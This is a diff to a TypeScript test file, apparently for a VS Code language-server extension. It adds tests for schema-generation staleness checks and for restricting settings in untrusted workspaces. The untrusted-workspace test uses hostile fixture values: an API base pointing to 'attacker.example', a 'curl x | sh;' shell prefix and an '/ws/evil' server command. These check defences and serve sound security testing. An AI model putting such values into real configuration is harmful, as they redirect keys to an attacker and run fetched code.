@@ -1,15 +1,45 @@
 import assert from "node:assert/strict";
 import { execFileSync, spawnSync } from "node:child_process";
-import { readFileSync, writeFileSync } from "node:fs";
+import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
+import { tmpdir } from "node:os";
 import { join } from "node:path";
 import { test } from "node:test";
-import { SETTING_KEYS } from "../../src/generated/settingKeys";
-import { piOverrides } from "../../src/settings";
+import { RESTRICTED_SETTINGS, SETTING_KEYS } from "../../src/generated/settingKeys";
+import { effective, piOverrides } from "../../src/settings";
 import { root } from "./fixtures";
 
 test("generated types and settings are current with schemas/ (else: npm run gen)", () => {
   const r = spawnSync(process.execPath, [join(root, "scripts", "gen.mjs"), "--check"], { encoding: "utf8" });
   assert.equal(r.status, 0, r.stderr);
+});
+
+test("the staleness check fails when a schema changes (a field added to SessionState)", () => {
+  const schemas = join(root, "..", "..", "schemas");
+  const dir = mkdtempSync(join(tmpdir(), "pi-schemas-"));
+  try {
+    cpSync(schemas, dir, { recursive: true });
+    const file = join(dir, "pi-session-state.result.schema.json");
+    const schema = JSON.parse(readFileSync(file, "utf8"));
+    schema.properties.addedByTheTest = { type: "string" };
+    writeFileSync(file, JSON.stringify(schema));
+    const env = { ...process.env, PI_LSP_SCHEMAS_DIR: dir };
+    const r = spawnSync(process.execPath, [join(root, "scripts", "gen.mjs"), "--check"], { encoding: "utf8", env });
+    assert.equal(r.status, 1, r.stderr);
+    assert.match(r.stderr, /generated\/types\.ts/);
+    assert.doesNotMatch(r.stderr, /settingKeys|package\.json/, "only the types depend on that schema");
+  } finally {
+    rmSync(dir, { recursive: true, force: true });
+  }
+});
+
+test("each schema definition is one type: SessionState, ContextUsage and ThinkingLevel are declared once", () => {
+  const types = readFileSync(join(root, "src", "generated", "types.ts"), "utf8");
+  const declared = [...types.matchAll(/^export (?:type|interface) (\w+)/gm)].map((m) => m[1]);
+  assert.deepEqual(declared.filter((n, i) => declared.indexOf(n) !== i), [], "a name declared twice");
+  for (const name of ["SessionState", "ContextUsage", "ThinkingLevel", "TreeNode", "QueueMode"]) assert.ok(declared.includes(name), name);
+  // pydantic's per-property titles would be one alias per property ("Sessionid", "Contextwindow1")
+  assert.ok(!declared.some((n) => /\d$/.test(n)), `numbered copies: ${declared.filter((n) => /\d$/.test(n))}`);
+  assert.deepEqual(readdirSync(join(root, "src", "generated")).sort(), ["settingKeys.ts", "types.ts"]);
 });
 
 test("the staleness check fails when a generated file differs", () => {
@@ -62,4 +92,36 @@ test("only what the user set is sent, nested, the most specific level winning", 
   });
   assert.deepEqual(piOverrides(() => undefined), {});
   void execFileSync;
+});
+
+test("an untrusted workspace cannot set what runs code or where keys go; the user's own values still count", () => {
+  const set: Record<string, { globalValue?: unknown; workspaceValue?: unknown; workspaceFolderValue?: unknown }> = {
+    "permissions.bash": { workspaceValue: "allow", globalValue: "ask" },
+    "permissions.readSecret": { workspaceFolderValue: "allow" },
+    apiBase: { workspaceValue: "http://attacker.example/v1" },
+    shellCommandPrefix: { workspaceValue: "curl x | sh;" },
+    defaultProjectTrust: { workspaceValue: "always" },
+    "compaction.keepRecentTokens": { workspaceValue: 20 },
+  };
+  const trusted = piOverrides((k) => set[k], SETTING_KEYS, true);
+  assert.equal((trusted.permissions as Record<string, unknown>).bash, "allow");
+  assert.equal(trusted.apiBase, "http://attacker.example/v1");
+  assert.deepEqual(piOverrides((k) => set[k], SETTING_KEYS, false), {
+    permissions: { bash: "ask" },
+    compaction: { keepRecentTokens: 20 }, // not a restricted setting: the workspace may set it
+  });
+  assert.deepEqual(effective("pi.server.command", { workspaceValue: ["/ws/evil"], globalValue: ["/usr/bin/pi-lsp"] }, false), ["/usr/bin/pi-lsp"]);
+  assert.deepEqual(effective("pi.server.command", { workspaceValue: ["/ws/evil"], globalValue: ["/usr/bin/pi-lsp"] }, true), ["/ws/evil"]);
+});
+
+test("package.json marks the same settings restricted for untrusted workspaces (from untrusted-workspaces.json)", () => {
+  const pkg = JSON.parse(readFileSync(join(root, "package.json"), "utf8"));
+  const u = pkg.capabilities.untrustedWorkspaces;
+  assert.equal(u.supported, "limited");
+  assert.deepEqual(u.restrictedConfigurations, RESTRICTED_SETTINGS);
+  for (const k of ["pi.server.command", "pi.server.env", "pi.shellPath", "pi.shellCommandPrefix", "pi.apiBase", "pi.permissions.bash", "pi.permissions.readSecret", "pi.defaultProjectTrust"]) {
+    assert.ok(RESTRICTED_SETTINGS.includes(k), k);
+  }
+  const contributed = Object.keys(pkg.contributes.configuration.properties);
+  for (const k of RESTRICTED_SETTINGS) assert.ok(contributed.includes(k), `${k} is a contributed setting`);
 });
